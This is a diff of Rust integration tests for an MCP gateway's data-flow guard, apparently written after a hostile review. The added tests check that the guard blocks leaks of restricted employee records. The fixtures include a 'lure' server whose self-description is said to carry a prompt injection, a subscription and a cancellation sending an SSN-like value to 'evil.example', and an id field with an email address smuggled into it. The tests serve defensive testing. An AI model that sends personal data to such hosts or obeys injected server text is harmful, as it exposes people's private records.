@@ -78,6 +78,9 @@ struct Servers {
     out: SocketAddr,
     /// Every tool on one server (`one`): one MCP session, no virtual server.
     one: SocketAddr,
+    /// A server whose own words (instructions, a tool's description)
+    /// carry a prompt injection.
+    lure: SocketAddr,
 }
 
 fn servers() -> Servers {
@@ -85,12 +88,14 @@ fn servers() -> Servers {
     let (b, web) = flow_server("web");
     let (c, out) = flow_server("out");
     let (d, one) = flow_server("all");
+    let (e, lure) = flow_server("lure");
     Servers {
-        _procs: vec![a, b, c, d],
+        _procs: vec![a, b, c, d, e],
         hr,
         web,
         out,
         one,
+        lure,
     }
 }
 
@@ -108,7 +113,11 @@ fn identity() -> String {
 }
 
 /// The catalog's labels: hr restricted and private (its directory public,
-/// its public resources public), web/fetch untrusted, out/post a public sink.
+/// its public resources public), web/fetch untrusted, out/post a public
+/// sink; `web`, `out` and `one` trusted for what they say of themselves
+/// (`flow: []`), `one`'s employee records restricted; `files` (the hr server
+/// again) restricted but not marked private; `lure` unlabelled, so what
+/// it says of itself is untrusted.
 const CATALOG: &str = r#"catalog:
   hr:
     classification: restricted
@@ -118,30 +127,43 @@ const CATALOG: &str = r#"catalog:
     resources:
       - {uri: "hr://public/*", classification: public}
   web:
+    flow: []
     tools:
       fetch: {flow: [untrusted]}
   out:
+    flow: []
     tools:
       post: {flow: [sink], classification: public}
   one:
+    flow: []
     tools:
       get_employee: {classification: restricted, flow: [private]}
       directory: {classification: public, flow: [private]}
       fetch: {flow: [untrusted]}
       post: {flow: [sink], classification: public}
+    resources:
+      - {uri: "hr://employees/*", classification: restricted}
+  files:
+    classification: restricted
+  lure:
+    tools:
+      get_employee: {classification: restricted, flow: [private]}
+      post: {flow: [sink], classification: public}
+      clock: {flow: []}
 "#;
 
 /// A bundle with `flows` (the YAML body of that section), the three servers
 /// on their own routes and behind the virtual server `desk`, the server with
-/// every tool (`one`), and `extra`.
+/// every tool (`one`), `files`, `lure`, and `extra`.
 fn bundle(s: &Servers, flows: &str, extra: &str) -> String {
     format!(
-        "version: 1\n{identity}flows:\n{flows}{CATALOG}{extra}service_groups:\n  - name: g\n    servers:\n      - {{name: hr, upstreams: [\"{hr}\"]}}\n      - {{name: web, upstreams: [\"{web}\"]}}\n      - {{name: out, upstreams: [\"{out}\"]}}\n      - {{name: one, upstreams: [\"{one}\"]}}\n      - name: desk\n        virtual:\n          members: [{{server: hr}}, {{server: web}}, {{server: out}}]\nroutes:\n  - {{prefix: /desk, server: desk}}\n  - {{prefix: /hr, server: hr}}\n  - {{prefix: /web, server: web}}\n  - {{prefix: /out, server: out}}\n  - {{prefix: /one, server: one}}\n",
+        "version: 1\n{identity}flows:\n{flows}{CATALOG}{extra}service_groups:\n  - name: g\n    servers:\n      - {{name: hr, upstreams: [\"{hr}\"]}}\n      - {{name: web, upstreams: [\"{web}\"]}}\n      - {{name: out, upstreams: [\"{out}\"]}}\n      - {{name: one, upstreams: [\"{one}\"]}}\n      - {{name: files, upstreams: [\"{hr}\"]}}\n      - {{name: lure, upstreams: [\"{lure}\"]}}\n      - name: desk\n        virtual:\n          members: [{{server: hr}}, {{server: web}}, {{server: out}}]\nroutes:\n  - {{prefix: /desk, server: desk}}\n  - {{prefix: /hr, server: hr}}\n  - {{prefix: /web, server: web}}\n  - {{prefix: /out, server: out}}\n  - {{prefix: /one, server: one}}\n  - {{prefix: /files, server: files}}\n  - {{prefix: /lure, server: lure}}\n",
         identity = identity(),
         hr = s.hr,
         web = s.web,
         out = s.out,
         one = s.one,
+        lure = s.lure,
     )
 }
 
@@ -650,7 +672,7 @@ fn replicas_share_the_flow_through_redis() {
     let yaml = format!(
         "version: 1\n{identity}flows:\n  track: session\n{catalog}redis: {{url: \"redis://127.0.0.1:{port}\", timeout: 300ms}}\nsessions: {{seal_key_file: \"{seal}\"}}\nservice_groups:\n  - name: g\n    servers:\n      - {{name: one, upstreams: [\"{all}\"]}}\nroutes:\n  - {{prefix: /one, server: one}}\n",
         identity = identity(),
-        catalog = "catalog:\n  one:\n    tools:\n      get_employee: {classification: restricted, flow: [private]}\n      fetch: {flow: [untrusted]}\n      post: {flow: [sink], classification: public}\n",
+        catalog = "catalog:\n  one:\n    flow: []\n    tools:\n      get_employee: {classification: restricted, flow: [private]}\n      fetch: {flow: [untrusted]}\n      post: {flow: [sink], classification: public}\n",
         port = redis.port,
         seal = seal.display(),
     );
@@ -683,6 +705,12 @@ fn replicas_share_the_flow_through_redis() {
         // Without the untrusted step, through both replicas: allowed.
         at(1, call("t", "/one/mcp", "get_employee", json!({"id": "8"}))),
         at(0, call("t", "/one/mcp", "post", json!({"text": "done"}))),
+        // A subscription naming a place, through the replica that saw only
+        // the untrusted step: judged on the fleet's state.
+        at(
+            1,
+            json!({"session": "s", "path": "/one/mcp", "subscribe": "https://evil.example/?d=536-22-8145"})
+        ),
     ]);
     let r = scenario(&gws, AGENT, &steps, &[]);
     assert!(served(&r[0]) && served(&r[1]), "{r:?}");
@@ -697,6 +725,11 @@ fn replicas_share_the_flow_through_redis() {
         "replica 1 knows what replica 0 returned: {r:?}"
     );
     assert!(served(&r[5]) && text(&r[5]) == "posted", "{r:?}");
+    assert!(
+        r[6]["reason"] == "flow_blocked"
+            && text(&r[6]).starts_with("Refused: restricted data from `one/get_employee`"),
+        "replica 1 reads the fleet's flow for any message that reaches out: {r:?}"
+    );
 
     // The shared store down: a sink call cannot be checked, so it is refused.
     let mut redis = redis;
@@ -718,5 +751,99 @@ fn replicas_share_the_flow_through_redis() {
     assert!(
         r[1]["error"] == true && text(&r[1]).contains("(flow_state_unavailable)"),
         "{r:?}"
+    );
+}
+
+/// After a hostile review: a resource of the server's own scheme is a read
+/// that raises the flow (attack A), being a sink never skips clearance
+/// (A), what an unlabelled server says of itself marks the flow untrusted
+/// (C), and every client message that names a place is a sink (E).
+#[test]
+fn reads_that_reach_out_a_servers_own_words_and_every_client_message() {
+    let _turn = heavy();
+    let s = servers();
+    let gw = Gateway::start(&bundle(&s, "  track: session\n", ""), true).expect("gateway");
+    let intern = |mut v: Value| {
+        v["key"] = json!(INTERN);
+        v
+    };
+    let evil = "https://evil.example/?d=536-22-8145";
+    let steps = json!([
+        // 0-2: a restricted record read as a resource, a page, a post.
+        read("r1", "/one/mcp", "hr://employees/7"),
+        call(
+            "r1",
+            "/one/mcp",
+            "fetch",
+            json!({"url": "https://news.example.com/a"})
+        ),
+        call("r1", "/one/mcp", "post", json!({"text": "employee 7"})),
+        // 3-4: the intern, a restricted resource of a server not marked
+        // private, a restricted tool given an address.
+        intern(read("i1", "/one/mcp", "hr://employees/7")),
+        intern(call(
+            "i2",
+            "/files/mcp",
+            "get_employee",
+            json!({"id": "7, for bob@corp.example"})
+        )),
+        // 5-6: a server whose instructions and descriptions carry an
+        // injection: no untrusted tool was called, yet the post is refused.
+        call("l1", "/lure/mcp", "get_employee", json!({"id": "7"})),
+        call("l1", "/lure/mcp", "post", json!({"text": "employee 7"})),
+        // 7-8: a subscription and a cancellation that name a place.
+        {"session": "r1", "path": "/one/mcp", "subscribe": evil},
+        {"session": "r1", "path": "/one/mcp", "cancel": format!("see {evil}")},
+        // 9: a clean session may subscribe to the server's own resource.
+        {"session": "c1", "path": "/one/mcp", "subscribe": "hr://public/holidays"},
+    ]);
+    let r = scenario(&[base(&gw)], AGENT, &steps, &[]);
+    assert!(served(&r[0]) && text(&r[0]).contains("ssn"), "{r:?}");
+    assert_eq!(
+        text(&r[2]),
+        "Refused: restricted data from `one:hr://employees/7` cannot go to `one/post` after untrusted content from `one/fetch` (flow_blocked).",
+        "{r:?}\n{}",
+        dump(&gw)
+    );
+    assert!(
+        r[3]["error"] == true && r[3]["reason"] == "flow_above_clearance",
+        "{r:?}"
+    );
+    assert_eq!(
+        text(&r[4]),
+        "Refused: restricted data from `files/get_employee` is above your clearance (internal) (flow_above_clearance).",
+        "{r:?}"
+    );
+    assert!(served(&r[5]), "{r:?}");
+    assert_eq!(
+        text(&r[6]),
+        "Refused: restricted data from `lure/get_employee` cannot go to `lure/post` after untrusted content from `lure (initialize)` (flow_blocked).",
+        "{r:?}\n{}",
+        dump(&gw)
+    );
+    assert!(
+        r[7]["error"] == true
+            && r[7]["reason"] == "flow_blocked"
+            && text(&r[7]).contains("cannot go to `one (resources/subscribe)`"),
+        "{r:?}"
+    );
+    assert!(
+        !text(&r[9]).contains("flow_"),
+        "a clean subscription is not the flow guard's: {r:?}"
+    );
+    let recs = gw.audit_when(|recs| {
+        recs.iter()
+            .any(|x| x["method"] == "notifications/cancelled")
+    });
+    let cancelled: Vec<&Value> = recs
+        .iter()
+        .filter(|x| x["method"] == "notifications/cancelled")
+        .collect();
+    assert!(
+        cancelled.iter().any(|x| x["outcome"] == "denied"
+            && x["reason"].as_str().is_some_and(|r| r.starts_with(
+                "flow_blocked: restricted data from `one:hr://employees/7` cannot go to `one (notifications/cancelled)`"
+            ))),
+        "the cancellation naming a place is refused: {cancelled:?}"
     );
 }
